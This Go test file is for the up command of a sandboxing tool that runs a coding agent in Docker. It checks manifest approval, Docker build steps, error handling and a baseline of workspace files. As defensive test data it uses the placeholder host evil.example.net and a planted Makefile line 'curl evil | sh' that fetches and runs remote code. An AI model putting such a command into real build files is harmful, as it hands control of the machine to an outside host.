package provision

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/aboxhq/abox/internal/approval"
	"github.com/aboxhq/abox/internal/docker"
	"github.com/aboxhq/abox/internal/images"
	"github.com/aboxhq/abox/internal/sandbox"
)

// wider reaches one host further than basic.
const wider = basic + "  - evil.example.net\n"

// TestUpSteps: up's docker steps come in their order (network, ~/.claude volume, the agent
// image, then netd's), the baseline is recorded, and the approval is recorded last, as the
// manifest as read.
func TestUpSteps(t *testing.T) {
	f := newFixture(t, basic)
	f.upReplies()
	p := f.project()
	rs, err := Up(context.Background(), f.env, p, UpOptions{})
	if err != nil {
		t.Fatalf("Up = %v", err)
	}
	want := []string{"network inspect", "volume inspect", "volume create", "image inspect", "build --force-rm", "image inspect", "build --force-rm"}
	if diff := cmp.Diff(want, f.commands()); diff != "" {
		t.Errorf("docker calls (-want +got):\n%s", diff)
	}
	var built []string
	for _, c := range f.fake.Calls() {
		if c.Args[0] == "build" {
			built = append(built, c.Args[slices.Index(c.Args, "--tag")+1])
		}
	}
	if len(built) != 2 || built[0] != rs.Agent.Image || built[1] != rs.Netd.Image {
		t.Errorf("built %q, want the agent image %s and then the netd image %s", built, rs.Agent.Image, rs.Netd.Image)
	}
	if len(f.events) == 0 {
		t.Fatal("Up reported nothing")
	}
	if _, ok := f.events[len(f.events)-1].(Baselined); !ok {
		t.Errorf("last event %#v, want the baseline", f.events[len(f.events)-1])
	}
	if got, err := os.ReadFile(p.State.Approved()); err != nil || string(got) != basic {
		t.Errorf("approved.yaml = %q, %v; want the manifest as read", got, err)
	}
}

// TestUpFailureApprovesNothing: a step that fails ends up with a StepError naming it, and
// records neither the baseline nor the approval, so the next up asks again.
func TestUpFailureApprovesNothing(t *testing.T) {
	f := newFixture(t, basic)
	f.fake.On("build", docker.Result{ExitCode: 100, Stdout: []byte("E: Unable to locate package nope\n")})
	f.upReplies()
	p := f.project()
	_, err := Up(context.Background(), f.env, p, UpOptions{})
	var se *StepError
	var be *images.BuildError
	if !errors.As(err, &se) || se.Step != StepImages || !errors.As(err, &be) {
		t.Fatalf("Up = %v, want a failed build in StepImages", err)
	}
	if want := []string{"network inspect", "volume inspect", "volume create", "image inspect", "build --force-rm"}; !slices.Equal(f.commands(), want) {
		t.Errorf("docker calls %q, want %q: nothing after the agent's failed build", f.commands(), want)
	}
	if exists(p.State.Approved()) || exists(p.State.Baselines()) {
		t.Error("a failed up recorded the approval or the baseline")
	}
}

// TestUpRefusals: a widened manifest, or a corrupt approval, that nobody approves stops up
// before anything is rendered, created or built, and leaves the approval as it was.
func TestUpRefusals(t *testing.T) {
	cases := []struct {
		name     string
		approved string
		terminal bool // a terminal, on which the person says no
		want     error
		event    Event
	}{
		{"widened without a terminal", basic, false, ErrUnconfirmed, Widened{Lines: []string{"+ egress: evil.example.net"}}},
		{"widened, declined", basic, true, ErrDeclined, Widened{Lines: []string{"+ egress: evil.example.net"}}},
		{"corrupt without a terminal", "version: [1\n", false, approval.ErrCorrupt, nil},
		{"corrupt, declined", "version: [1\n", true, ErrDeclined, nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, wider) // no docker reply: any docker call fails the test
			p := f.project()
			write(t, p.State.Approved(), tc.approved)
			if tc.terminal {
				f.terminal(false)
			}
			_, err := Up(context.Background(), f.env, p, UpOptions{})
			if !errors.Is(err, tc.want) {
				t.Fatalf("Up = %v, want %v", err, tc.want)
			}
			if tc.terminal && !slices.Equal(f.asked, []string{"approve it?"}) {
				t.Errorf("asked %q, want one approval", f.asked)
			}
			if len(f.events) != 1 {
				t.Fatalf("events %#v, want the one shown before asking", f.events)
			}
			if tc.event != nil {
				if diff := cmp.Diff(tc.event, f.events[0]); diff != "" {
					t.Errorf("event (-want +got):\n%s", diff)
				}
			} else if r, ok := f.events[0].(Replacing); !ok || !errors.Is(r.Corrupt, approval.ErrCorrupt) {
				t.Errorf("event %#v, want the corrupt approval", f.events[0])
			}
			var nr *NotReplacedError
			if tc.want == approval.ErrCorrupt && (!errors.As(err, &nr) || !strings.HasPrefix(err.Error(), "the approved manifest was not replaced: the approved manifest ")) {
				t.Errorf("Up = %v, want a NotReplacedError", err)
			}
			if len(f.fake.Calls()) > 0 || exists(p.State.Artifacts()) {
				t.Errorf("a refused up rendered or ran docker: %q", f.commands())
			}
			if got, _ := os.ReadFile(p.State.Approved()); string(got) != tc.approved {
				t.Errorf("approved.yaml = %q, want it unchanged", got)
			}
		})
	}
}

// TestUpApproves: --yes approves a widening without asking (or showing it) and replaces a
// corrupt approval after showing it; a person at the terminal is asked once. --no-build builds
// nothing.
func TestUpApproves(t *testing.T) {
	cases := []struct {
		name      string
		approved  string
		yes       bool
		asked     int
		firstShow bool // the first event is what was asked about
	}{
		{"widened, --yes", basic, true, 0, false},
		{"widened, approved on the terminal", basic, false, 1, true},
		{"corrupt, --yes", "version: [1\n", true, 0, true},
		{"narrowed", wider, false, 0, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, wider)
			if tc.name == "narrowed" {
				f.writeManifest(basic)
			}
			f.upReplies()
			f.terminal(true)
			p := f.project()
			write(t, p.State.Approved(), tc.approved)
			if _, err := Up(context.Background(), f.env, p, UpOptions{Yes: tc.yes, NoBuild: true}); err != nil {
				t.Fatalf("Up = %v", err)
			}
			if len(f.asked) != tc.asked {
				t.Errorf("asked %q, want %d questions", f.asked, tc.asked)
			}
			shown := false
			if len(f.events) > 0 {
				switch f.events[0].(type) {
				case Widened, Replacing:
					shown = true
				}
			}
			if shown != tc.firstShow {
				t.Errorf("events %#v: shown %v, want %v", f.events, shown, tc.firstShow)
			}
			if got, _ := os.ReadFile(p.State.Approved()); string(got) != string(p.Raw) {
				t.Errorf("approved.yaml = %q, want %q", got, p.Raw)
			}
			if want := []string{"network inspect", "volume inspect", "volume create"}; !slices.Equal(f.commands(), want) {
				t.Errorf("docker calls %q, want %q", f.commands(), want)
			}
		})
	}
}

// TestUpDaemonFirst: a daemon that does not answer stops up before it takes the lock or looks
// at the approval.
func TestUpDaemonFirst(t *testing.T) {
	f := newFixture(t, wider)
	down := errors.New("daemon down")
	f.env.Ready = func(context.Context) error { return down }
	p := f.project()
	if _, err := Up(context.Background(), f.env, p, UpOptions{}); !errors.Is(err, down) {
		t.Fatalf("Up = %v, want the daemon's error", err)
	}
	if exists(p.State.Dir) || len(f.events) > 0 {
		t.Errorf("up went on without a daemon: state %v, events %#v", exists(p.State.Dir), f.events)
	}
}

// TestUpVolumeOwner: a ~/.claude volume filled for another owner is given to the agent after
// the images are built; when that fails, up stops in StepVolume before the gateway and the
// approval.
func TestUpVolumeOwner(t *testing.T) {
	f := newFixture(t, basic)
	f.fake.On("network inspect", docker.Result{Stdout: []byte(`{"Name":"abox-net","Id":"n1","Driver":"bridge"}`)})
	f.fake.On("volume inspect", docker.Result{Stdout: []byte(`{"Name":"abox-claude"}`)})
	f.fake.On("volume create", docker.Result{})
	f.fake.On("run", docker.Result{ExitCode: 1, Stderr: []byte("no space left on device\n")})
	p := f.project()
	write(t, p.State.VolumeOwner(), "2000:2000\n")
	_, err := Up(context.Background(), f.env, p, UpOptions{NoBuild: true})
	var se *StepError
	var re *sandbox.ReownError
	if !errors.As(err, &se) || se.Step != StepVolume || !errors.As(err, &re) {
		t.Fatalf("Up = %v, want a failed re-owning in StepVolume", err)
	}
	if want := []string{"network inspect", "volume inspect", "volume create", "run --rm"}; !slices.Equal(f.commands(), want) {
		t.Errorf("docker calls %q, want %q", f.commands(), want)
	}
	if exists(p.State.Approved()) {
		t.Error("up approved the manifest after a failed step")
	}
}

// TestUpGateway: a project that declares a server is bound (its token minted) and its profile's
// gateway reconciled after the volume; a reconciliation that fails is StepGateway and approves
// nothing. A project that declares none reconciles nothing (TestUpSteps: no gateway call).
func TestUpGateway(t *testing.T) {
	f := newFixture(t, basic+"servers: [duckduckgo]\n")
	writeCatalog(t, f)
	f.upReplies()
	p := f.project()
	_, err := Up(context.Background(), f.env, p, UpOptions{NoBuild: true}) // the gateway's Env renders no secrets
	var se *StepError
	if !errors.As(err, &se) || se.Step != StepGateway || !strings.Contains(err.Error(), "Env.Secrets is not set") {
		t.Fatalf("Up = %v, want the reconciliation's error in StepGateway", err)
	}
	if !exists(filepath.Join(f.ps.Gateway("default"), "token")) {
		t.Error("up reconciled a gateway it did not bind the project to first")
	}
	if exists(p.State.Approved()) {
		t.Error("up approved the manifest after a failed step")
	}
}

// TestUpNeverReRecordsTheBaseline: the first up records the workspace's watched files as the
// baseline; a later up, after a run changed one, keeps the first baseline and reports nothing
// recorded, so up never accepts what a run planted.
func TestUpNeverReRecordsTheBaseline(t *testing.T) {
	f := newFixture(t, basic)
	write(t, filepath.Join(f.ws, "Makefile"), "all:\n\ttrue\n")
	f.upReplies()
	p := f.project()
	recorded := func() sandbox.Recorded {
		t.Helper()
		f.events = nil
		if _, err := Up(context.Background(), f.env, p, UpOptions{NoBuild: true}); err != nil {
			t.Fatalf("Up = %v", err)
		}
		for _, ev := range f.events {
			if b, ok := ev.(Baselined); ok {
				return b.Recorded
			}
		}
		t.Fatalf("events %#v, want the baseline", f.events)
		return sandbox.Recorded{}
	}
	if rec := recorded(); !rec.Files {
		t.Fatalf("the first up recorded files %v, want the watched files", rec.Files)
	}
	before, _ := os.ReadFile(p.State.Baselines())
	write(t, filepath.Join(f.ws, "Makefile"), "all:\n\tcurl evil | sh\n")
	if rec := recorded(); rec.Files || rec.Git {
		t.Errorf("the second up recorded files %v, git %v; want nothing", rec.Files, rec.Git)
	}
	if after, _ := os.ReadFile(p.State.Baselines()); !bytes.Equal(before, after) {
		t.Error("the second up changed the baseline")
	}
	write(t, p.State.Baselines(), "{")
	if _, err := Up(context.Background(), f.env, p, UpOptions{NoBuild: true}); err == nil {
		t.Error("Up over a corrupt baseline succeeded, want an error")
	}
	if data, _ := os.ReadFile(p.State.Baselines()); string(data) != "{" {
		t.Errorf("the corrupt baseline was rewritten: %q", data)
	}
}
